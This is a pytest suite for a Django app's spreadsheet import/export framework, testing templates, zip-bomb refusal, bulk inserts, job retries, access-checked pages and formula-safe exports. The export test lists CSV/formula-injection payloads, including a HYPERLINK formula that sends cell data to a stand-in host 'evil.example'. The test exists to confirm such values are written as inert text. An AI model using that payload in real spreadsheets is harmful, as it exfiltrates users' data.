"""The core import/export framework (governance.imports), exercised through the organization importer.

The organization-specific rules are tested in orgs/tests/test_importing.py; here: templates (drop-downs,
instructions, the skipped example row), malformed containers, bulk_insert, the job's id ranges, the
task's idempotency and a killed run, the pages (history scoped and paginated, downloads checked), and
formula-safe exports.
"""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from governance.imports import get_importer, importers_for_user
from governance.imports.exporting import ExportColumn, xlsx_bytes
from governance.imports.inserting import bulk_insert, id_ranges, ids_in_ranges
from governance.imports.reading import check_container, read_rows
from governance.imports.services import import_job_run
from governance.imports.tasks import import_run_task
from governance.imports.workbooks import build_template
from governance.models import AuditEvent, ImportJob, ImportStatus
from governance.tenancy import tenant_context
from orgs.importing import IMPORT_COLUMNS, IMPORTER_KEY, ORGANIZATION_IMPORTER
from orgs.models import Organization, OrganizationDomain, PartyCoverage
from orgs.tests.test_importing import make_job, make_xlsx, org_row, run_import

HEADERS = [column.label for column in IMPORT_COLUMNS]


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


# --- the registry --------------------------------------------------------------------------


def test_importers_are_offered_by_their_permission(tree_a, users, in_tenant):
    assert get_importer(IMPORTER_KEY) is ORGANIZATION_IMPORTER
    with in_tenant(tree_a["tenant"]):
        # Each app's importers, offered by their own permission (orgs: organizations; projects: the expert pool).
        assert IMPORTER_KEY in [i.key for i in importers_for_user(users["street_a"])]
        assert [i.key for i in importers_for_user(users["community_a"])] == [IMPORTER_KEY]
        assert importers_for_user(users["auditor_a"]) == []
    with pytest.raises(LookupError):
        get_importer("nope.nothing")


# --- the template --------------------------------------------------------------------------


def test_template_has_drop_downs_for_choice_columns_and_an_instructions_sheet():
    workbook = load_workbook(io.BytesIO(build_template(ORGANIZATION_IMPORTER)))
    sheet = workbook.worksheets[0]
    assert workbook.sheetnames[:2] == ["社会组织", "填写说明"]
    options = workbook["选项"]
    assert options.sheet_state == "hidden"
    lists = {}
    for validation in sheet.data_validations.dataValidation:
        assert validation.type == "list"
        column = str(validation.sqref).split(":")[0].rstrip("0123456789")
        source = validation.formula1.split("!")[1].replace("$", "")
        first, last = source.split(":")
        lists[sheet[f"{column}1"].value] = [cell.value for (cell,) in options[first:last]]
    assert lists == {"类型": ["社会团体", "社会服务机构", "基金会", "社区社会组织"],
                     "状态": ["正常", "停止活动", "注销", "撤销登记"]}  # the filing statuses are not offered
    # Multi-value columns get no single-choice drop-down; the example row is styled as one.
    assert sheet["B2"].value == "社会服务机构" and sheet["A2"].font.i
    instructions = [row[0] for row in workbook["填写说明"].iter_rows(values_only=True) if row and row[0]]
    assert any("示例行" in line and "不会被导入" in line for line in instructions)
    assert any("50,000" in line for line in instructions)


def test_reading_skips_the_example_row_and_counts_it():
    workbook = load_workbook(io.BytesIO(build_template(ORGANIZATION_IMPORTER)))
    for column, label in enumerate(HEADERS, start=1):
        workbook.worksheets[0].cell(row=3, column=column, value=org_row(1)[label])
    buffer = io.BytesIO()
    workbook.save(buffer)
    rows, errors, skipped = read_rows(ORGANIZATION_IMPORTER, buffer.getvalue())
    assert (errors, skipped) == ([], 1)
    assert [(number, record["name"]) for number, record in rows] == [(3, "测试组织1")]


# --- malformed containers --------------------------------------------------------------------


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tree_a, users, in_tenant):
    bomb = _zip({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b"0" * (60 * 1024 * 1024)})
    assert len(bomb) < 200 * 1024  # 60 MB of zeros packs to about 60 KB
    errors = check_container(bomb)
    assert len(errors) == 1 and "unpacks to 60 MB" in errors[0].message
    job = run_import(tree_a["tenant"], users["admin_a"], data=bomb, in_tenant=in_tenant)
    assert job.status == ImportStatus.FAILED and "unpacks to 60 MB" in job.errors[0]["message"]


@pytest.mark.parametrize(("data", "message"), [
    (_zip({"word/document.xml": b"<w/>"}), "not a readable Excel workbook"),  # a .docx renamed
    (_zip({"xl/workbook.xml": b"<not xml"}), "not a readable Excel workbook"),
])
def test_other_containers_get_a_clear_message(data, message):
    _rows, errors, _skipped = read_rows(ORGANIZATION_IMPORTER, data)
    assert len(errors) == 1 and errors[0].row == 0 and message in errors[0].message


def test_a_sheet_over_the_row_limit_is_refused(monkeypatch):
    monkeypatch.setattr(ORGANIZATION_IMPORTER, "max_rows", 3)
    _rows, errors, _skipped = read_rows(ORGANIZATION_IMPORTER, make_xlsx([org_row(i) for i in range(4)]))
    assert "more than 3 rows" in errors[0].message


# --- inserting -------------------------------------------------------------------------------


def test_bulk_insert_returns_ids_in_order_and_fills_defaults(tree_a, in_tenant):
    tenant = tree_a["tenant"]
    rows = [{"name": f"组织{i}", "kind": "community_group", "filing_number": f"F{i}", "legal_representative": "张",
             "region_id": tree_a["community"].pk, "funding_sources": ["dues"], "address": "a\tb\\c\nd"}
            for i in range(5)]
    with in_tenant(tenant):
        pks = bulk_insert(Organization, rows, tenant=tenant)
        assert len(set(pks)) == 5
        got = {org.pk: org for org in Organization.objects.filter(pk__in=pks)}
        assert [got[pk].name for pk in pks] == [f"组织{i}" for i in range(5)]
        org = got[pks[0]]
        assert (org.party_coverage, org.status, org.volunteers, org.tenant_id) == (
            PartyCoverage.UNKNOWN, "active", 0, tenant.pk)
        assert org.address == "a\tb\\c\nd"  # COPY escapes survive the round trip
        assert org.funding_sources == ["dues"] and org.created_at is not None
        assert bulk_insert(OrganizationDomain, [], tenant=tenant) == []


def test_bulk_insert_escapes_the_one_cell_that_needs_it_and_may_leave_the_keys_to_the_table(tree_a, in_tenant):
    tenant = tree_a["tenant"]
    addresses = ["路1号", "", "a\\tb\r\\N", "路4号", "\\"]
    rows = [{"name": f"组织{i}", "kind": "community_group", "filing_number": f"G{i}", "legal_representative": "张",
             "region_id": tree_a["community"].pk, "address": address, "contact_person": f"李{i}\t"[:2]}
            for i, address in enumerate(addresses)]
    with in_tenant(tenant):
        pks = bulk_insert(Organization, rows, tenant=tenant)
        got = dict(Organization.objects.filter(pk__in=pks).values_list("pk", "address"))
        assert [got[pk] for pk in pks] == addresses  # a backslash-N stays text, never NULL
        domains = [{"organization_id": pk, "domain": "elderly"} for pk in pks[:3]]
        bulk_insert(OrganizationDomain, domains, tenant=tenant, returning=False)
        stored = list(OrganizationDomain.objects.filter(organization_id__in=pks).values_list("pk", "organization_id"))
        assert sorted(org for _pk, org in stored) == sorted(pks[:3]) and len({pk for pk, _org in stored}) == 3


def test_id_ranges():
    assert id_ranges([7, 1, 2, 3, 8, 10]) == [[1, 3], [7, 8], [10, 10]]
    assert id_ranges([]) == []


def test_a_job_records_where_its_rows_are_and_is_audited_once(tree_a, users, in_tenant):
    job = run_import(tree_a["tenant"], users["admin_a"], [org_row(i) for i in range(30)], in_tenant=in_tenant)
    assert job.status == ImportStatus.SUCCEEDED, job.errors
    with in_tenant(tree_a["tenant"]):
        imported = Organization.objects.filter(ids_in_ranges(job.imported_ids))
        assert imported.count() == 30 == Organization.objects.count()
        assert AuditEvent.objects.filter(object_id=str(job.pk), action="organization.import").count() == 1
        assert not AuditEvent.objects.filter(action__in=["organization.create", "organization.update"]).exists()


# --- the task --------------------------------------------------------------------------------


class _Killed(BaseException):
    """What a worker killed mid-import looks like to the code that ran: nothing after it runs."""


def test_a_run_killed_during_the_insert_leaves_nothing_and_the_job_retryable(tree_a, users, in_tenant,
                                                                             monkeypatch):
    tenant = tree_a["tenant"]
    with in_tenant(tenant):
        job = make_job(tenant, users["admin_a"], make_xlsx([org_row(i) for i in range(6)]))
    real_insert = ORGANIZATION_IMPORTER.insert

    def insert_then_die(ctx, rows):
        real_insert(ctx, rows)  # every row is in the database, uncommitted, when the worker dies
        raise _Killed

    monkeypatch.setattr(ORGANIZATION_IMPORTER, "insert", insert_then_die)
    with pytest.raises(_Killed):
        import_run_task.delay(tenant_id=tenant.pk, job_id=job.pk)
    with in_tenant(tenant):
        job.refresh_from_db()
        assert job.status not in (ImportStatus.SUCCEEDED, ImportStatus.FAILED)
        assert Organization.objects.count() == 0 and OrganizationDomain.objects.count() == 0

    monkeypatch.setattr(ORGANIZATION_IMPORTER, "insert", real_insert)
    assert import_run_task.delay(tenant_id=tenant.pk, job_id=job.pk).get() == ImportStatus.SUCCEEDED
    with in_tenant(tenant):
        assert Organization.objects.count() == 6
    assert import_run_task.delay(tenant_id=tenant.pk, job_id=job.pk).get() == ImportStatus.SUCCEEDED
    with in_tenant(tenant):
        assert Organization.objects.count() == 6  # a finished job is not redone


def test_a_user_who_lost_the_permission_cannot_run_the_job(tree_a, users, in_tenant):
    tenant = tree_a["tenant"]
    with in_tenant(tenant):
        job = make_job(tenant, users["auditor_a"], make_xlsx([org_row(0)]))
        import_job_run(job=job, actor=users["auditor_a"])
        assert job.status == ImportStatus.FAILED and "no longer run this import" in job.errors[0]["message"]
        assert Organization.objects.count() == 0


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_a_second_delivery_while_the_first_runs_leaves_the_job_alone(tree_a, users, in_tenant):
    from django.db import connections

    tenant = tree_a["tenant"]
    with in_tenant(tenant):
        job = make_job(tenant, users["admin_a"], make_xlsx([org_row(0)]))
    other = connections.create_connection("default")
    try:
        other.set_autocommit(False)
        with other.cursor() as cursor:  # the first delivery holds the job's lock
            cursor.execute("SELECT pg_try_advisory_xact_lock(%s, %s)", [0x1A7, job.pk])
        assert import_run_task.delay(tenant_id=tenant.pk, job_id=job.pk).get() == "busy"
        with in_tenant(tenant):
            assert Organization.objects.count() == 0
        other.rollback()
    finally:
        other.close()
    assert import_run_task.delay(tenant_id=tenant.pk, job_id=job.pk).get() == ImportStatus.SUCCEEDED


# --- pages -----------------------------------------------------------------------------------


def _jobs(tenant, user, count, status=ImportStatus.SUCCEEDED):
    with tenant_context(tenant):
        for n in range(count):
            job = ImportJob(tenant=tenant, importer=IMPORTER_KEY, original_name=f"第{n}批.xlsx", created_by=user,
                            status=status, total_rows=3, imported_rows=3)
            job.file.save("x.xlsx", ContentFile(b"x"), save=False)
            job.save()


def test_history_is_scoped_to_the_tenant_the_owner_and_the_permission(tree_a, tree_b, users, client_for):
    _jobs(tree_a["tenant"], users["street_a"], 2)
    _jobs(tree_a["tenant"], users["street2_a"], 1)
    _jobs(tree_b["tenant"], users["admin_b"], 1)
    url = reverse("imports:history", args=[IMPORTER_KEY])

    def files(user):
        response = client_for(user).get(url)
        assert response.status_code == 200
        return sorted(job.original_name for job in response.context["page"].object_list)

    assert files(users["street_a"]) == ["第0批.xlsx", "第1批.xlsx"]
    assert files(users["street2_a"]) == ["第0批.xlsx"]
    assert len(files(users["admin_a"])) == 3  # a tenant administrator sees every import of the tenant
    assert len(files(users["admin_b"])) == 1  # and none of another tenant
    for name in ("auditor_a", "org_a"):  # no import permission: no page at all
        assert client_for(users[name]).get(url).status_code == 404
    assert client_for(users["street_a"]).get(reverse("imports:history", args=["nope.nothing"])).status_code == 404


def test_job_pages_and_downloads_are_access_checked(tree_a, tree_b, users, client_for, in_tenant):
    job = run_import(tree_a["tenant"], users["street_a"], data=b"junk", in_tenant=in_tenant)
    assert job.error_report
    for name in ("street_a", "admin_a"):
        client = client_for(users[name])
        assert client.get(reverse("imports:status", args=[job.pk])).status_code == 200
        assert client.get(reverse("imports:report", args=[job.pk])).status_code == 200
    for name in ("street2_a", "auditor_a", "org_a", "admin_b"):
        client = client_for(users[name])
        assert client.get(reverse("imports:status", args=[job.pk])).status_code == 404, name
        assert client.get(reverse("imports:report", args=[job.pk])).status_code == 404, name
        assert client.get(reverse("imports:template", args=[IMPORTER_KEY])).status_code == (
            200 if name in ("street2_a", "admin_b") else 404), name  # importers of their own scope


HISTORY_QUERIES = 6  # session, user with tenant, count, page (with uploaders), savepoint pair (roles: cached); pinned: a new query is a reviewed one-line diff


def test_history_paginates_with_a_flat_query_count(tree_a, users, client_for, query_budget):
    client = client_for(users["admin_a"])
    url = reverse("imports:history", args=[IMPORTER_KEY])
    query_budget(lambda n: _jobs(tree_a["tenant"], users["street_a"], n), lambda: client.get(url),
                 expected=HISTORY_QUERIES, sizes=(3, 25), warm=True,
                 rows=lambda response: len(response.context["page"].object_list))
    response = client.get(url, {"page": 2})
    assert len(response.context["page"].object_list) == 5  # 25 jobs, 20 a page




# --- exports ---------------------------------------------------------------------------------


INJECTIONS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+86 734 812 3456", "-2+3", "@SUM(A1:A2)",
              "\t=1+1", "\r=1+1"]


def test_text_that_would_start_a_formula_is_written_as_text():
    data = xlsx_bytes(columns=[ExportColumn("值", lambda value: value, 40)], rows=INJECTIONS + ["正常文本", 12],
                      sheet_title="导出")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [sheet.cell(row=n, column=1) for n in range(2, len(INJECTIONS) + 4)]
    # (XML reads a carriage return back as a line feed; the cell is still text.)
    assert [cell.value for cell in cells] == [*(v.replace("\r", "\n") for v in INJECTIONS), "正常文本", 12]
    assert [cell.data_type for cell in cells] == ["s"] * (len(INJECTIONS) + 1) + ["n"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_control_characters_do_not_break_an_export():
    data = xlsx_bytes(columns=[ExportColumn("值", lambda value: value)], rows=["a\x00b\x07c"], sheet_title="导出")
    assert load_workbook(io.BytesIO(data)).worksheets[0]["A2"].value == "abc"


def test_an_export_of_an_empty_list_is_a_header_row():
    data = xlsx_bytes(columns=[ExportColumn("名称", "name")], rows=[], sheet_title="导出")
    assert [row for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True)] == [("名称",)]
